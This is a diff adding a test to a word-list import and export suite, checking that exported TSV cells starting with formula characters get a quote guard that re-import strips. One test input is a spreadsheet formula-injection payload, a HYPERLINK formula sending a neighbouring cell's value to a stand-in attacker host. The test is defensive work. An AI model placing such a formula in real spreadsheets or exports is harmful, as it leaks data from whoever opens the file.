@@ -129,6 +129,32 @@ describe('word-list import and export', function () {
     assert.deepEqual([states.body.updated, (await admin.get(`/api/terms/${disabled.body.id}`)).body.enabled], [1, true], 'an enabled column sets the state');
   });
 
+  it('guards cells a spreadsheet would run as a formula, and strips exactly that guard on import', async () => {
+    const t = tag();
+    const risky = [`=HYPERLINK("http://evil.example/?leak="&A2,"点此核验")${t}`, `+86公式${t}`, `-减号${t}`, `@提及${t}`];
+    const quoted = [`'单引号开头${t}`, `'=引号加等号${t}`, `''+两个引号${t}`];
+    for (const term of [...risky, ...quoted]) {
+      const created = await admin.post('/api/terms', { term, category: 'politics', severity: 'notice', note: `=1+1 ${t}` });
+      assert.equal(created.status, 201, JSON.stringify(created.body));
+    }
+    const exported = await admin.get(`/api/terms/export?format=tsv&q=${t}`);
+    assert.equal(exported.status, 200);
+    const cells = new Map(dataLines(exported.body as string).slice(1).map((cells) => [cells[0]!, cells]));
+    assert.equal(cells.size, risky.length + quoted.length);
+    for (const term of risky) assert.ok(cells.has(`'${term}`), `guarded: ${[...cells.keys()].join(' | ')}`);
+    assert.ok(cells.has(quoted[0]!), 'a leading quote before ordinary text needs no guard');
+    assert.ok(cells.has(`'${quoted[1]}`) && cells.has(`'${quoted[2]}`), 'quotes before a formula character get one more');
+    for (const row of cells.values()) assert.equal(row[3], `'=1+1 ${t}`, 'every column is guarded');
+    for (const cell of [...cells.values()].flat()) assert.doesNotMatch(cell, /^[=+\-@]/);
+
+    const reimported = await importTsv(admin, 'terms', exported.body as string);
+    assert.equal(reimported.status, 200, JSON.stringify(reimported.body));
+    assert.deepEqual([reimported.body.created, reimported.body.updated, reimported.body.unchanged], [0, 0, risky.length + quoted.length], 'the export imports back unchanged');
+    const stored = await allEntries(admin, 'terms', `q=${t}`);
+    assert.deepEqual(stored.map((e) => e.term).sort(), [...risky, ...quoted].sort());
+    assert.ok(stored.every((e) => e.note === `=1+1 ${t}`));
+  });
+
   it('is all or nothing: one bad row refuses the whole file, every problem named with its line', async () => {
     const t = tag();
     const total = await Term.count();
